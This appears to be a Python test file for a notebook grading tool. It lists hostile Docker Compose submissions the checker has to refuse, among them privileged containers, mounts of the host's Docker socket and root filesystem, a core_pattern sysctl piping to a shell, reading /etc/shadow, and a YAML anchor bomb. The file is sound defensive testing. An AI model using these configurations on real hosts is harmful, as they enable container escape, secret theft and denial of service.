"""Compose files that try something, and a small course in which they are answers."""

import tempfile
from pathlib import Path
from typing import Any

from nbformat.v4 import new_code_cell, new_notebook

from quaycrane import checks
from quaycrane.checks import Outcome
from tests.grading.conftest import answer_cell, grade_cell
from tests.hostile.attack import Attack

FULL_POINTS = 2.0
IMAGE = "image: alpine:3"
HONEST = """\
services:
  web:
    image: alpine:3
    init: true
    command: [httpd, -f, -p, "3000"]
    ports: ["8080:3000"]
    volumes: ["rows:/rows"]
volumes: {rows: {}}
"""
_BOMB = "".join(f"x-{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 12))


def service(*lines: str) -> str:
    """Return a project of one service with these lines."""
    return "services:\n  web:\n" + "".join(f"    {line}\n" for line in (IMAGE, *lines))


_DATA = service("volumes: ['data:/v']") + "volumes:\n  data:\n"
REFUSED = {
    "privileged": service("privileged: true"),
    "host network": service("network_mode: host"),
    "host processes": service("pid: host"),
    "host ipc": service("ipc: host"),
    "host user namespace": service("userns_mode: host"),
    "host uts": service("uts: host"),
    "devices": service("devices: ['/dev/sda:/dev/sda']"),
    "device rules": service("device_cgroup_rules: ['b *:* rwm']"),
    "gpus": service("gpus: all"),
    "added capabilities": service("cap_add: [SYS_ADMIN]"),
    "no seccomp": service("security_opt: ['seccomp:unconfined']"),
    "kernel settings": service("sysctls: {kernel.core_pattern: '|/bin/sh'}"),
    "control group": service("cgroup_parent: /"),
    "runtime": service("runtime: evil"),
    "the engine's socket": service("volumes: ['/var/run/docker.sock:/var/run/docker.sock']"),
    "the engine's socket, the short way": service("use_api_socket: true"),
    "the whole disk": service("volumes: ['/:/host']"),
    "a folder above": service("volumes: ['../..:/host']"),
    "a volume that is a folder": f"{_DATA}    driver_opts: {{type: none, o: bind, device: /}}\n",
    "an external volume": f"{_DATA}    external: true\n",
    "an external network": service("networks: [n]") + "networks:\n  n:\n    external: true\n",
    "the host's secret": service("secrets: [s]") + "secrets:\n  s:\n    file: /etc/shadow\n",
    "the host's config": service("configs: [s]") + "configs:\n  s:\n    file: /etc/shadow\n",
    "the grader's variable": service("secrets: [s]") + "secrets:\n  s:\n    environment: HOME\n",
    "a file of variables outside": service("env_file: [/etc/passwd]"),
    "a build outside": service("build: ../../.."),
    "a build on the host's network": service("build: {context: ., network: host}"),
    "a build with privileges": service("build: {context: ., privileged: true}"),
    "a build with entitlements": service("build: {context: ., entitlements: [security.insecure]}"),
    "a build of the internet": service("build: 'https://192.0.2.1/evil.git'"),
    "include of a file outside": "include: [/etc/passwd]\n" + service(),
    "extends a file outside": "services:\n  web:\n    extends: {file: /etc/passwd, service: root}\n",
    "a file of the internet": "include: ['https://192.0.2.1/compose.yaml']\n" + service(),
    "a git repository": "include: ['https://192.0.2.1/evil.git']\n" + service(),
    "exploding anchors": f"x-0: &x0 [a, a, a, a, a, a, a, a, a]\n{_BOMB}" + service("labels: *x11"),
    "nested 20,000 deep": "x-a: " + "[" * 20_000 + "]" * 20_000 + "\n" + service(),
    "a hook with privileges": service("post_start: [{command: id, user: root, privileged: true}]"),
    "a provider": "services:\n  web:\n    provider: {type: evil}\n",
    "a hundred services": "services:\n" + "".join(f"  s{n}: {{{IMAGE}}}\n" for n in range(100)),
    "a circle": "services:\n  a: {image: x, depends_on: [b]}\n  b: {image: x, depends_on: [a]}\n",
    "a key that there is none of": service("imag: x"),
    "a key twice": service("init: true", "init: false"),
    "a host port for two": (
        f"services:\n  web: {{{IMAGE}, ports: ['8080:80']}}\n"
        f"  api: {{{IMAGE}, ports: ['127.0.0.1:8080:80']}}\n"
    ),
    "a port that is none": service("ports: ['99999:80']"),
}
"""Refused before anything starts, with the line, by what each has."""

FAILS = {
    "an image that is nowhere": ("services: {web: {image: 'nosuch:1'}}\n", r"nosuch:1 of web is not .* 1\b"),
    "one port for two": (
        (f"services:\n  web: {{{IMAGE}, command: httpd -f -p 80}}\n"
        f"  beside: {{{IMAGE}, network_mode: 'service:web', command: sh -c 'sleep 1; httpd -f -p 80'}}\n"),
        "(?:beside has ended with code 1|already in use)(?s:.)*line 3",
    ),
    "no address left": (
        "services:\n" + "".join(f"  s{n}: {{{IMAGE}, init: true, command: sleep 60}}\n" for n in range(3))
        + "networks: {default: {ipam: {config: [{subnet: 10.9.9.0/30}]}}}\n",
        "no available IPv4 addresses(?s:.)*line [234]",
    ),
    "a service that ends": (
        service("command: [sh, -c, 'echo the reason; exit 3']"), "the reason(?s:.)*line 2"
    ),
    "a service that restarts for ever": (
        service("restart: always", "command: [sh, -c, 'echo the reason; exit 3']"),
        "started again for ever(?s:.)*code 3(?s:.)*the reason(?s:.)*line 2",
    ),
    "a volume that is full": (
        service("command: [dd, if=/dev/zero, of=/data/x, bs=1M]", "volumes: ['data:/data']")
        + "volumes: {data: {}}\n", "(?:No space left|disk)(?s:.)*line 2",
    ),
}  # fmt: skip
"""Brought up, and fails inside a slot: the file, and a pattern of what is told."""


def classmate(name: str) -> Attack:
    """Return an honest submission."""
    return Attack(name, "nothing", "", stack=HONEST)


def attacks() -> tuple[Attack, ...]:
    """Return submissions that try something with a Compose file."""
    refused = (
        Attack(f"stack-{name.replace(' ', '-')}", name, r"line \d+", stack=text)
        for name, text in REFUSED.items()
    )
    fails = (
        Attack(f"stack-{name.replace(' ', '-')}", name, says, stack=text)
        for name, (text, says) in FAILS.items()
    )
    return (*refused, *fails)


def outcome(text: str) -> Outcome:
    """Return what a grade cell says of a file: the check that grading runs, read in this process."""
    with tempfile.TemporaryDirectory(prefix="quaycrane-hostile-") as folder:
        Path(folder, "compose.yaml").write_text(text, encoding="utf-8")
        return checks.check(folder, "stack-comes-up").outcomes[0]


def notebook() -> Any:
    """Return the instructor's notebook of that unit."""
    cells = [
        new_code_cell("from quaycrane import checks", id="setup", metadata={"tags": ["setup"]}),
        answer_cell("stack", "%%compose shop/compose.yaml", HONEST),
        grade_cell("grade-stack", FULL_POINTS, "checks.check('shop', 'stack-comes-up').mark(2)"),
    ]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})
